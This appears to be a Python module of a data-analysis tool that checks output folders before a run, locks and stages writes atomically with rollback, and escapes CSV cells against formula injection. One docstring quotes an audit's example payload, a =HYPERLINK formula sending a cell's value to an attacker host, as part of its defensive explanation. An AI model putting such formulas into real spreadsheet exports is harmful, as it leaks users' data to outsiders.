"""Output locations checked before the work, not after it."""

from __future__ import annotations

import contextlib
import errno
import os
import re
import secrets
import tempfile
import time
from collections.abc import Callable, Collection, Iterable, Iterator, Mapping, Sequence
from pathlib import Path

from analyzer.errors import UsageError


def prepare_dir(path: Path, option: str = "--out") -> bool:
    """Create the directory ``path`` (with its parents) and check that a file can be
    written in it, so a long analysis cannot fail at its very end for want of a place to
    write; :class:`UsageError` naming ``option`` otherwise. Returns whether the directory
    was created here (a caller may remove it again if it ends up empty)."""
    if path.exists() and not path.is_dir():
        raise UsageError(f"{option}: {path} exists and is not a directory")
    created = not path.exists()
    try:
        path.mkdir(parents=True, exist_ok=True)
        fd, probe = tempfile.mkstemp(prefix=".analyzer-probe-", dir=path)
        os.close(fd)
        os.unlink(probe)
    except OSError as err:
        raise UsageError(f"{option}: cannot write to {path}: {err.strerror or err}") from None
    return created


WATCH_STATE_FILE = ".watch-state.json"
"""A watcher's state file in its REPORTS folder (:data:`analyzer.watch_index.STATE_FILE`)."""
WATCH_LOCK_FILE = ".lock"
"""A watcher's lock file in its REPORTS folder (:data:`analyzer.watch_index.LOCK_FILE`)."""


def _watched(folder: Path) -> bool:
    """Whether ``folder`` is a watcher's REPORTS: it holds a watcher's state file, or a
    lock file that a process holds locked."""
    if (folder / WATCH_STATE_FILE).is_file():
        return True
    try:
        import fcntl
    except ImportError:  # (not POSIX)
        return False
    try:
        fd = os.open(folder / WATCH_LOCK_FILE, os.O_RDONLY)
    except OSError:
        return False
    try:
        fcntl.flock(fd, fcntl.LOCK_SH | fcntl.LOCK_NB)
    except BlockingIOError:
        return True
    except OSError:
        return False
    finally:
        os.close(fd)  # (closing ends the shared lock this test may have taken)
    return False


def not_into_watch(path: Path, option: str = "--out") -> None:
    """``option``'s ``path`` must not be a watcher's REPORTS folder nor inside one:
    :class:`UsageError` naming it otherwise. A run there replaced a report the watcher
    had announced (``REPORTS/a.mcap/report.html`` then told of another file, the index
    still of ``a.mcap``), and nothing noticed (a QA audit's ux66 item M4)."""
    target = path.resolve()
    for folder in (target, *target.parents):
        if folder.is_dir() and _watched(folder):
            where = "is" if folder == target else f"is inside {folder},"
            raise UsageError(
                f"{option}: {path} {where} a watcher's report folder: its reports are "
                "the watcher's; write elsewhere"
            )


def not_into_inputs(
    path: Path,
    inputs: Sequence[str | Path],
    option: str,
    advice: str,
    files: Mapping[str, Path | None] | None = None,
) -> None:
    """``option``'s ``path`` must not overwrite an input file nor add a file to an input
    directory (an archive of several files, which would read it back), nor overwrite one
    of the other files the run reads (``files``: what each is, ``"the --config file"``,
    and its path): inputs are never modified. ``advice`` ends the error (``write the
    model elsewhere``)."""
    target = path.resolve()
    for i in inputs:
        src = Path(i).resolve()
        if target == src or (src.is_dir() and src in target.parents):
            raise UsageError(
                f"{option}: {path} is {'an input' if target == src else 'inside the input'}"
                f" {i}: inputs are never modified; {advice}"
            )
    for what, f in (files or {}).items():
        if f is not None and target == Path(f).resolve():
            raise UsageError(f"{option}: {path} is {what}: inputs are never modified; {advice}")


def not_over_inputs(
    out: Path, names: Sequence[str], inputs: Sequence[str | Path], read_beside: str
) -> None:
    """Before any work: none of the files ``names`` the run writes into ``out`` may
    replace an input: :class:`UsageError` naming ``--out`` otherwise (inputs are never
    modified). A file the run writes is an input when it is one of ``inputs`` as given
    (``run out/corrected.csv --out out --corrected`` replaced the record it read with its
    corrected signals, a QA audit's ux56 item 1), or when it already lies in an input
    folder, which reads it as part of the archive: a folder's ``corrected.csv`` is read
    unless a ``read_beside`` file (``findings.json``) beside it marks it the analyzer's
    own output (:data:`analyzer.readers.OWN_OUTPUTS`); ``findings.json`` and
    ``report.html`` are never read as data. Writing the outputs into the archive's own
    folder stays allowed (the next run of the folder skips them)."""
    place = out.resolve()
    for name in names:
        target = place / name
        for given in inputs:
            src = Path(given)
            src = src.parent.resolve() / src.name  # (a link given as input is the input)
            if target == src or target == Path(given).resolve():
                raise UsageError(
                    f"--out: {out} would replace the input {given} with the run's {name}: "
                    "inputs are never modified; write the outputs elsewhere"
                )
            folder = Path(given).resolve()
            if (
                folder.is_dir()
                and (folder == place or folder in place.parents)
                and target.is_file()
                and not (place / read_beside).is_file()
            ):
                raise UsageError(
                    f"--out: {out / name} is a file of the input folder {given}, read as part "
                    f"of it: inputs are never modified; write the outputs elsewhere"
                )


@contextlib.contextmanager
def only_run(out: Path, option: str = "--out") -> Iterator[None]:
    """Hold an exclusive ``flock`` on the directory ``out`` while a run writes into it:
    a second run into the same folder at once is refused (:class:`UsageError` naming
    ``option``), not left to replace the first's outputs, so that both users are told of
    one report (two runs into one ``--out`` both exited 1 and both named the same
    report, the later archive's; a QA audit's ux56 item 4). The lock is on the folder
    itself (no lock file is left in it) and ends with the process. Where ``flock`` is
    not available, nothing is locked."""
    try:
        import fcntl
    except ImportError:  # (not POSIX)
        yield
        return
    try:
        fd = os.open(out, os.O_RDONLY)
    except OSError:
        yield
        return
    try:
        try:
            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except BlockingIOError:
            raise UsageError(
                f"{option}: {out} is being written by another analyzer run; wait for it "
                "to end or write into another folder"
            ) from None
        except OSError:
            pass  # (a file system without locks: the run goes on unlocked)
        yield
    finally:
        os.close(fd)


def remove_if_empty(path: Path) -> None:
    """Remove the directory ``path`` if nothing was written to it."""
    with contextlib.suppress(OSError):
        path.rmdir()


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet takes a cell beginning with for a formula (OWASP's "CSV
injection"): Excel and LibreOffice evaluate ``=HYPERLINK(...)`` or a ``cmd|`` DDE call in
a CSV cell whether quoted or not."""


def spreadsheet_safe(text: str) -> str:
    """``text`` as a CSV text cell we write (a channel name in a header): with a ``'``
    in front where it begins with one of :data:`FORMULA_STARTS`, so a spreadsheet shows
    it as text instead of evaluating it (OWASP's advice); otherwise unchanged. A name
    ``-x`` reads ``'-x``; the name is the cell without that first ``'``. Numbers are
    written as numbers, never through this (``-1.5`` stays a number). A channel name is
    any text of its input (a CSV header, an MCAP topic): a security audit's item H2 found
    ``export`` and ``corrected.csv`` writing ``=HYPERLINK("http://evil.example/?leak="&B3,
    "click")`` as a header cell."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def write_atomic(path: Path, data: bytes | str) -> None:
    """Write ``path`` via a temporary file and rename, so readers never see half a file;
    an error writing it names ``path`` (:func:`named_error`)."""
    with staged() as files:
        files.write(path, data)
        files.commit()


def named_error(err: OSError, path: str | Path) -> OSError:
    """``err``, an error writing the file ``path``, as an :class:`OSError` naming
    ``path`` with the system's words for its error number: the error line then says
    ``out/report.html: No space left on device``, where before it said ``No space left
    on device`` (a temporary file's error, which named nothing the user knows) or
    pyarrow's ``Error writing bytes to file. Detail: [errno 28] ...`` (a QA audit's
    ux59 item M1)."""
    code = err.errno
    words = os.strerror(code) if code else (err.strerror or str(err))
    return OSError(code, words, os.fspath(path))


def _umask() -> int:
    """The process's umask, read without changing it where the system says it (Linux's
    ``/proc/self/status``): setting it to 0 and back, the only portable way, leaves a
    moment in which a file another thread creates (the watcher's, a worker's) gets no
    umask at all."""
    try:
        with open("/proc/self/status", encoding="ascii", errors="replace") as f:
            for line in f:
                if line.startswith("Umask:"):
                    return int(line.split()[1], 8)
    except (OSError, ValueError, IndexError):
        pass
    umask = os.umask(0)
    os.umask(umask)
    return umask


_NO_FLUSH = frozenset({errno.EINVAL, errno.ENOTSUP, errno.EOPNOTSUPP})
"""``fsync``'s errors that say the file system cannot flush, not that data were lost."""


class Staged:
    """Files written under temporary names beside their places (:meth:`write`,
    :meth:`write_with`), which :meth:`commit` renames into place only once every one of
    them is written: a run whose disk fills while it writes its outputs leaves every
    file of the earlier run as it was, not a new ``findings.json`` beside an old
    ``report.html``, or naming a ``corrected.csv`` that was never written (a QA audit's
    ux59 item H1). Made by :func:`staged`, which removes every temporary file not put in
    place, however the block ends. An error writing a file names the file's place
    (:func:`named_error`), not its temporary name."""

    def __init__(
        self, tidy: Collection[Path] = (), warn: Callable[[str], object] | None = None
    ) -> None:
        self._files: list[tuple[Path, Path]] = []
        """(place, temporary file), in the order :meth:`commit` renames them."""
        self._gone: list[Path] = []
        """Files :meth:`commit` removes (:meth:`remove`)."""
        self._tidy = list(tidy)
        """Places, beyond those written or removed, whose leftovers :meth:`commit` tidies
        (:func:`tidy_leftovers`)."""
        self._warn = warn
        self._since = time.time()

    def write(self, path: Path, data: bytes | str) -> None:
        """``data`` (text as UTF-8) into a temporary file for ``path``."""
        # (a file name that is no UTF-8 is held with surrogates: written as \udcXX)
        raw = data.encode("utf-8", "backslashreplace") if isinstance(data, str) else data
        fd, tmp = self._temporary(path)
        try:
            with os.fdopen(fd, "wb") as f:
                f.write(raw)
        except OSError as err:
            raise named_error(err, path) from err
        self._usual_mode(tmp, path)

    def write_with(self, path: Path, writer: Callable[[Path], object]) -> None:
        """``writer(tmp)`` writes the file for ``path`` at ``tmp``, a temporary name in
        ``path``'s folder (a writer of its own: pyarrow's CSV writer)."""
        fd, tmp = self._temporary(path)
        os.close(fd)
        try:
            writer(tmp)
        except OSError as err:
            if err.filename not in (None, str(tmp)):
                raise  # (another file's error: a writer that reads one)
            raise named_error(err, path) from err
        self._usual_mode(tmp, path)

    def _temporary(self, path: Path) -> tuple[int, Path]:
        """A new empty file beside ``path`` (open, its descriptor), to be renamed to it."""
        path.parent.mkdir(parents=True, exist_ok=True)
        try:
            fd, name = tempfile.mkstemp(prefix=f".{path.name}.new-", dir=path.parent)
        except OSError as err:
            raise named_error(err, path) from err
        self._files.append((path, Path(name)))
        return fd, Path(name)

    @staticmethod
    def _usual_mode(tmp: Path, path: Path) -> None:
        """mkstemp creates 0600: give the usual file mode (0666 less the umask)."""
        try:
            os.chmod(tmp, 0o666 & ~_umask())
        except OSError as err:
            raise named_error(err, path) from err

    def remove(self, path: Path) -> None:
        """Remove ``path`` as part of :meth:`commit`: with the renames, or not at all (an
        earlier run's ``corrected.csv`` that this run does not write)."""
        self._gone.append(path)

    def commit(self) -> None:
        """Put every file written in its place, in the order they were written (the one a
        reader looks for first, ``findings.json``, is written last), all or none as far
        as POSIX allows: the earlier files are first kept under temporary names beside
        their places (:func:`_keep_aside`), then the new ones renamed in; if any step
        fails, the earlier files are put back and the new ones taken out, so the folder
        is as it was, byte for byte; after the last rename the earlier files are
        removed. Before, a rename that failed part-way (a folder made read-only, a
        disk's error) left the new files already renamed beside the earlier others."""
        written = [p for p, _ in self._files]
        own = {tmp for _, tmp in self._files}
        places = [*written, *self._gone, *self._tidy]
        for line in tidy_leftovers(places, self._since, own, restore=written):
            if self._warn is not None:
                self._warn(line)
        self._sync()
        aside: list[tuple[Path, Path]] = []  # (place, its earlier file's temporary name)
        placed: list[Path] = []  # (places that had no file and were given one)
        try:
            for path in [*(p for p, _ in self._files), *self._gone]:
                kept = _keep_aside(path)
                if kept is not None:
                    aside.append((path, kept))
            had = {p for p, _ in aside}
            while self._files:
                path, tmp = self._files[0]
                try:
                    os.replace(tmp, path)
                except OSError as err:
                    raise named_error(err, path) from err
                self._files.pop(0)
                if path not in had:
                    placed.append(path)
            for path in self._gone:
                with contextlib.suppress(FileNotFoundError):
                    os.unlink(path)  # (where it was linked aside: renamed, it is gone)
        except BaseException:
            _put_back(aside, placed)
            raise
        self._gone.clear()
        for _, kept in aside:
            with contextlib.suppress(OSError):
                os.unlink(kept)
        _sync_folders({p.parent for p, _ in aside} | {p.parent for p in placed})

    def _sync(self) -> None:
        """Flush every file written to the disk before any is renamed in (``fsync``),
        so that a power cut after the renames cannot leave a new name on an empty or
        half-written file (file systems may write a rename before the data it names),
        and so that a network file system's late write error (a full disk said only
        when the data reach the server) fails the run before any file is replaced. A
        file system that cannot flush (``EINVAL``) is not an error. About 20 ms for a
        run's usual three files, 60 ms more with a 50 MB ``corrected.csv``."""
        for path, tmp in self._files:
            try:
                fd = os.open(tmp, os.O_RDONLY)
                try:
                    os.fsync(fd)
                finally:
                    os.close(fd)
            except OSError as err:
                if err.errno in _NO_FLUSH:
                    continue
                raise named_error(err, path) from err

    def discard(self) -> None:
        """Remove every temporary file not put in place."""
        for _, tmp in self._files:
            with contextlib.suppress(OSError):
                tmp.unlink()
        self._files.clear()


def _leftovers(path: Path) -> re.Pattern[str]:
    """The names this module gives ``path``'s temporary files beside it:
    ``.NAME.new-XXXXXXXX`` (:meth:`Staged._temporary`, ``mkstemp``'s eight characters after
    ``new-``, so that a user's ``.report.html.backup01`` is never taken for one) and
    ``.NAME.earlier-HHHHHHHHHHHH`` (:func:`_keep_aside`)."""
    name = re.escape(path.name)
    return re.compile(rf"\.{name}\.(?:new-[a-z0-9_]{{8}}|earlier-[0-9a-f]{{12}})")


def tidy_leftovers(
    places: Iterable[Path],
    since: float,
    own: Collection[Path] = (),
    restore: Collection[Path] | None = None,
) -> list[str]:
    """Tidy what a run killed outright (``kill -9``, the OOM killer) while it put its
    files in place left beside ``places``: its temporary files (names of
    :func:`_leftovers` only, older than ``since``, none of ``own``) are removed, and
    where a place of ``restore`` (default: every place) has no file but an earlier one
    kept aside for it, the newest of those is put back first. Returns a line for each
    file put back. Before, the hidden files stayed for good, one set per killed run
    (ux66 M2); a file of any other name is never touched. (Only the files a run writes
    are put back: an earlier ``corrected.csv`` without its place is one a run not asked
    for ``--corrected`` removed on purpose, and was killed before it removed the copy.)"""
    said: list[str] = []
    for path in dict.fromkeys(places):
        try:
            names = [n for n in os.listdir(path.parent) if _leftovers(path).fullmatch(n)]
        except OSError:
            continue  # (a folder not there yet, or unreadable: nothing to tidy)
        found: list[tuple[float, Path]] = []
        for name in names:
            left = path.parent / name
            try:
                info = left.lstat()
            except OSError:
                continue
            if left in own or max(info.st_mtime, info.st_ctime) >= since:
                continue
            found.append((info.st_ctime, left))
        earlier = sorted((c, p) for c, p in found if ".earlier-" in p.name)
        if earlier and not os.path.lexists(path) and (restore is None or path in restore):
            kept = earlier[-1][1]
            with contextlib.suppress(OSError):
                os.replace(kept, path)
                said.append(
                    f"{path}: put back from {kept.name}, which a run stopped while it "
                    "replaced its outputs left beside it"
                )
        for _, left in found:
            with contextlib.suppress(OSError):
                if left.exists() or left.is_symlink():
                    left.unlink()
    return said


def _keep_aside(path: Path) -> Path | None:
    """Keep the file at ``path`` (if any) under a new hidden name beside it too, and
    return that name: a second link to it where the file system has links (``path``
    then stays in place until the new file replaces it, so a reader never finds it
    missing), else ``path`` renamed. None when there is no file at ``path`` (or a
    folder, which the rename in refuses as before)."""
    if not os.path.lexists(path) or (path.is_dir() and not path.is_symlink()):
        return None
    linked = True
    for _ in range(100):
        kept = path.with_name(f".{path.name}.earlier-{secrets.token_hex(6)}")
        try:
            if linked:
                os.link(path, kept, follow_symlinks=False)
            else:
                os.close(os.open(kept, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
                os.replace(path, kept)
            return kept
        except FileExistsError:
            continue
        except OSError as err:
            if not linked:
                with contextlib.suppress(OSError):
                    os.unlink(kept)
                raise named_error(err, path) from err
            linked = False  # (no links here: a FAT stick, some network file systems)
    raise named_error(OSError(errno.EEXIST, os.strerror(errno.EEXIST)), path)


def _put_back(aside: Sequence[tuple[Path, Path]], placed: Sequence[Path]) -> None:
    """Undo a :meth:`Staged.commit` that failed part-way: every earlier file back in its
    place (``aside``: place, temporary name) and the new files that had no earlier one
    (``placed``) removed. An earlier file that cannot be put back stays under its
    temporary name (hidden, beside its place) rather than being lost."""
    for path in placed:
        with contextlib.suppress(OSError):
            os.unlink(path)
    for path, kept in aside:
        try:
            os.replace(kept, path)
        except OSError:
            continue
        # (where both were links to one file, rename does nothing: the name stays)
        with contextlib.suppress(OSError):
            os.unlink(kept)


def _sync_folders(folders: set[Path]) -> None:
    """Flush the folders' entries (the renames) to the disk, where the system can."""
    for folder in folders:
        try:
            fd = os.open(folder, os.O_RDONLY)
        except OSError:
            continue
        try:
            os.fsync(fd)
        except OSError:
            pass  # (a folder that cannot be flushed: some file systems; the renames hold)
        finally:
            os.close(fd)


@contextlib.contextmanager
def staged(
    tidy: Collection[Path] = (), warn: Callable[[str], object] | None = None
) -> Iterator[Staged]:
    """A :class:`Staged` whose temporary files are removed when the block ends, however
    it ends (those :meth:`Staged.commit` renamed are in place by then); ``tidy``: places
    beyond those it writes whose leftovers its commit tidies, ``warn`` told of a file
    put back (:func:`tidy_leftovers`)."""
    files = Staged(tidy, warn)
    try:
        yield files
    finally:
        files.discard()
